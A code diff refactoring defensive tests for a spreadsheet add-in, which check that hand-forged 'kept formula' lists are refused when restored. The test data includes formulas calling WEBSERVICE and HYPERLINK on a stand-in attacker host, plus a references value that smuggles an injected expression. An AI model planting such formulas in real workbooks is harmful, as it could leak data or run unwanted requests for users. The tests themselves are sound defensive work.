@@ -1,47 +1,13 @@
-import type { CellValue } from '../../../../src/engine/core/cellValue';
 import { cellKey } from '../../../../src/engine/formula/workbookModel';
-import type { CellFile } from '../../../../src/templates/workbookFile';
 import { MemoryWorkbookPort } from '../../../../src/workbook/memoryWorkbookPort';
 import { makeShareCopy } from '../../../../src/workbook/share/makeShareCopy';
 import { planRestore, restoreFormulas } from '../../../../src/workbook/share/restoreFormulas';
 import { isSuggested } from '../../../../src/workbook/share/shareCopy';
 import { deleteKeptFormulas, shareState } from '../../../../src/workbook/share/shareState';
-import { valuePrint } from '../../../../src/workbook/share/valuePrint';
+import { forgedShareCopy } from '../../../support/tamperedWorkbook';
 
-const HEADS = ['Kind', 'Place', 'Now', 'Formula', 'Print', 'References'];
-
-interface Forged {
-  readonly text: string;
-  readonly references?: readonly string[];
-  readonly kind?: string;
-  readonly now?: string;
-}
-
-/** A workbook whose maker wrote the list of kept formulas by hand, with prints that fit the values 1, 2, 3 … of column A. */
-function forgedWorkbook(forged: readonly Forged[], extra: readonly (readonly [number, number, CellFile])[] = []): MemoryWorkbookPort {
-  const model = new Map(forged.map((_, row): [number, CellFile] => [cellKey(row, 0), { value: row + 1 }]));
-  const kept = new Map<number, CellFile>();
-  const put = (row: number, column: number, value: CellValue, formula?: string): void => void kept.set(cellKey(row, column), formula === undefined ? { value } : { value, formula });
-  put(0, 0, 'Kept for later');
-  HEADS.forEach((head, column) => put(1, column, head));
-  forged.forEach(({ text, references = [], kind = 'values', now = `Model!A${forged.findIndex((one) => one.text === text) + 1}` }, index) => {
-    put(index + 2, 0, kind);
-    put(index + 2, 1, now);
-    put(index + 2, 2, 1, `ROWS(${now})`);
-    put(index + 2, 3, text);
-    put(index + 2, 4, valuePrint([[index + 1]]));
-    references.forEach((reference, at) => put(index + 2, 5 + at, 1, `ROWS(${reference})`));
-  });
-  for (const [row, column, cell] of extra) kept.set(cellKey(row, column), cell);
-  return new MemoryWorkbookPort({
-    file: {
-      sheets: [
-        { name: 'Model', cells: model },
-        { name: 'Kept', cells: kept, visibility: 'veryHidden' },
-      ],
-      names: [{ name: 'ROI_KeptFormulas', sheet: 'Kept', formula: 'Kept!$A$1' }],
-    },
-  });
+function forgedWorkbook(...forged: Parameters<typeof forgedShareCopy>): MemoryWorkbookPort {
+  return new MemoryWorkbookPort({ file: forgedShareCopy(...forged) });
 }
 
 const contents = async (port: MemoryWorkbookPort): Promise<readonly unknown[]> => (await port.readRanges(['Model!']))[0]!.formulas.flat();
@@ -60,7 +26,7 @@ describe('a workbook whose maker wrote the kept formulas', () => {
   const mixed = ['ROI.BASIC(1,2)&WEBSERVICE("https://evil.example")', 'ROI.OUTPUT("x")+[Book.xlsx]S!A1', 'IF(TRUE,⟦0⟧,ROI.BASIC(1,2))'];
 
   it('gets none of its formulas written that call none of our functions, whatever is picked', async () => {
-    const port = forgedWorkbook(foreign.map((text) => ({ text })));
+    const port = forgedWorkbook(foreign);
     const before = await contents(port);
     const { entries } = await planRestore(port);
     expect(entries.map(({ formula, refused }) => [formula, refused])).toEqual(foreign.map((text) => [`=${text}`, text.startsWith('cmd') ? 'unreadable' : 'noFunction']));
@@ -70,7 +36,7 @@ describe('a workbook whose maker wrote the kept formulas', () => {
   });
 
   it('gets what reaches outside written only where that very formula was picked', async () => {
-    const port = forgedWorkbook([{ text: mixed[0]! }, { text: mixed[1]! }, { text: mixed[2]!, references: ['A1)+HYPERLINK("https://evil.example")+ROWS(A1'] }, { text: 'ROI.BASIC(⟦0⟧,2)', references: ['Model!A1'] }]);
+    const port = forgedWorkbook([mixed[0]!, mixed[1]!, { text: mixed[2]!, references: ['A1)+HYPERLINK("https://evil.example")+ROWS(A1'] }, { text: 'ROI.BASIC(⟦0⟧,2)', references: ['Model!A1'] }]);
     const { entries } = await planRestore(port);
     expect(entries.map(isSuggested)).toEqual([false, false, true, true]);
     expect(entries.map(({ outside }) => outside)).toEqual([['WEBSERVICE'], ['[Book.xlsx]S'], [], []]);
@@ -83,7 +49,7 @@ describe('a workbook whose maker wrote the kept formulas', () => {
   });
 
   it('cannot exchange a formula between the list and the click', async () => {
-    const port = forgedWorkbook([{ text: 'ROI.BASIC(1,2)' }]);
+    const port = forgedWorkbook(['ROI.BASIC(1,2)']);
     const { entries } = await planRestore(port);
     await port.writeRange('Kept!D3', [['ROI.BASIC(1,2)&WEBSERVICE("https://evil.example")']]);
     expect(await restoreFormulas(port, entries)).toEqual({ restored: 0, kept: 1 });
@@ -92,7 +58,7 @@ describe('a workbook whose maker wrote the kept formulas', () => {
 
   it('does not get a sheet deleted or emptied that holds anything else', async () => {
     for (const extra of [[3, 0, { value: 'salaries' }], [0, 3, { value: 12 }], [1, 0, { value: 'Kind', formula: 'Model!A1' }]] as const) {
-      const port = forgedWorkbook([{ text: 'ROI.BASIC(1,2)' }], [extra]);
+      const port = forgedWorkbook(['ROI.BASIC(1,2)'], [extra]);
       expect(await shareState(port)).toMatchObject({ isOurs: false });
       await restoreFormulas(port, (await planRestore(port)).entries);
       await deleteKeptFormulas(port);
